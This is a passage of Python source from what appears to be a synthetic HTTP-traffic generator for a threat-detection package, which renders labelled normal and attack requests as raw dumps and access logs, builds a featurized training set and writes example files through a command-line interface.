        lines.append(line)
    return "\n".join(lines) + "\n"


def generate_traffic_text(n_requests: int = 20000, seed: int = 42, raw_share: float = 0.5) -> dict[str, object]:
    """The generated traffic as text: ``raw`` (a raw dump) and ``log`` (a combined access log),
    each client's requests wholly in one of them, with the ground truth of each part in file order
    (``raw_requests``, ``log_requests``)."""
    requests = generate_requests(n_requests, seed)
    clients = requests["client"].unique()
    rng = np.random.default_rng(seed + 1)
    raw_clients = set(clients[rng.random(len(clients)) < raw_share])
    is_raw = requests["client"].isin(raw_clients).to_numpy()
    raw_part = requests[is_raw].reset_index(drop=True)
    log_part = requests[~is_raw].reset_index(drop=True)
    return {
        "raw": to_raw_dump(raw_part, seed) if len(raw_part) else "",
        "log": to_access_log(log_part) if len(log_part) else "",
        "raw_requests": raw_part,
        "log_requests": log_part,
    }


def generate_default_traffic(
    n_requests: int = 20000, seed: int = 42, raw_share: float = 0.5, with_family: bool = False
) -> pd.DataFrame:
    """The default data set: generated traffic as raw text, featurized by the same extractor users run
    on their files, plus ``label`` (0 normal, 1 attack) and, when asked, ``family``."""
    from threat_ensemble.http.features import featurize_text

    text = generate_traffic_text(n_requests, seed, raw_share)
    frames = []
    for part, fmt, truth in (("raw", "raw", "raw_requests"), ("log", "combined", "log_requests")):
        requests: pd.DataFrame = text[truth]  # type: ignore[assignment]
        if len(requests) == 0:
            continue
        features = featurize_text(str(text[part]), fmt, source=f"generated {part} traffic")
        if len(features) != len(requests):  # pragma: no cover - the generator writes only good requests
            raise AssertionError(f"{part}: {len(features)} feature rows for {len(requests)} requests")
        features["label"] = requests["label"].to_numpy()
        if with_family:
            features["family"] = requests["family"].to_numpy()
        frames.append(features)
    return pd.concat(frames, ignore_index=True)


def write_traffic_files(folder: str | Path, n_requests: int = 20000, seed: int = 42) -> dict[str, Path]:
    """Write the generated traffic as files a user would have, split by ground truth: ``normal.txt``
    and ``attack.txt`` (raw dumps), ``normal.log`` and ``attack.log`` (combined access logs)."""
    out = Path(folder)
    out.mkdir(parents=True, exist_ok=True)
    text = generate_traffic_text(n_requests, seed)
    written = {}
    for truth, render, suffix in (
        ("raw_requests", lambda r: to_raw_dump(r, seed), "txt"),
        ("log_requests", to_access_log, "log"),
    ):
        requests: pd.DataFrame = text[truth]  # type: ignore[assignment]
        for name, label in (("normal", 0), ("attack", 1)):
            part = requests[requests["label"] == label].reset_index(drop=True)
            path = out / f"{name}.{suffix}"
            path.write_text(render(part) if len(part) else "", encoding="utf-8")
            written[path.name] = path
    return written


def main(argv: list[str] | None = None) -> int:
    """Write the example traffic files to a folder, or the package's default data set."""
    import argparse

    from threat_ensemble.data.default_data import DEFAULT_DATA_FILE, DEFAULT_ROWS

    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("folder", nargs="?", help="write normal/attack raw dumps and access logs here")
    parser.add_argument("--requests", type=int, default=DEFAULT_ROWS, help=f"requests in all (default {DEFAULT_ROWS})")
    parser.add_argument("--seed", type=int, default=42)
    parser.add_argument("--write-default", action="store_true", help=f"write {DEFAULT_DATA_FILE.name} into the package")
    args = parser.parse_args(argv)
    if args.write_default:
        frame = generate_default_traffic(DEFAULT_ROWS, seed=42)
        frame.to_parquet(DEFAULT_DATA_FILE, compression="zstd", index=False)
        print(f"{DEFAULT_DATA_FILE}  {len(frame)} rows, {DEFAULT_DATA_FILE.stat().st_size / 1e3:.0f} kB")
    if args.folder:
        for path in write_traffic_files(args.folder, args.requests, args.seed).values():
            print(f"{path}  {path.stat().st_size / 1e6:.1f} MB")
    if not (args.write_default or args.folder):
        parser.error("give a folder, --write-default, or both")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
